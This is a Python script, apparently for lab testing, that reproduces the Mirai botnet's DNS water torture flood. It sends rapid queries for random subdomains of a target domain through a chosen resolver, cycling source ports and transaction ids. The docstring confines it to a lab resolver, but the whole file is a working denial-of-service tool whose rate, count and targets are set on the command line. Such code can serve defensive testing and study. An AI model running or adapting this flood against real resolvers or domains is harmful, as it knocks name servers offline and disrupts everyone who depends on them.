#!/usr/bin/env python3
"""DNS water torture as Mirai's `dns` attack vector sends it.

Mirai (bot/attack_udp.c, attack_udp_dns) asks the victim's resolver for
`<12 random letters>.<domain>` (type A, recursion desired, a random
transaction id) from ever-changing source ports, as fast as it can; the
resolver's recursion then hammers the domain's name servers. Here the rate
is bounded and the source ports cycle through a pool of sockets.

Traffic goes only to the resolver passed on the command line (a lab
namespace's address).
"""
import argparse
import random
import socket
import struct
import time


def query(name, qid):
    head = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    body = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return head + body + struct.pack(">HH", 1, 1)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--resolver", required=True)
    p.add_argument("--domain", required=True)
    p.add_argument("--rate", type=float, default=400, help="queries per second")
    p.add_argument("--count", type=int, default=2000)
    p.add_argument("--sockets", type=int, default=64, help="source ports to cycle through")
    a = p.parse_args()
    rnd = random.Random(5)
    socks = []
    for _ in range(a.sockets):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setblocking(False)
        socks.append(s)
    start = time.monotonic()
    for i in range(a.count):
        label = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(12))
        s = socks[i % len(socks)]
        try:
            s.sendto(query(f"{label}.{a.domain}", rnd.randrange(65536)), (a.resolver, 53))
        except BlockingIOError:
            pass
        # Drain answers so the sockets' buffers never fill.
        try:
            while True:
                s.recv(4096)
        except BlockingIOError:
            pass
        wait = start + (i + 1) / a.rate - time.monotonic()
        if wait > 0:
            time.sleep(wait)
    print(f"{a.count} queries sent in {time.monotonic() - start:.1f} s")


if __name__ == "__main__":
    main()
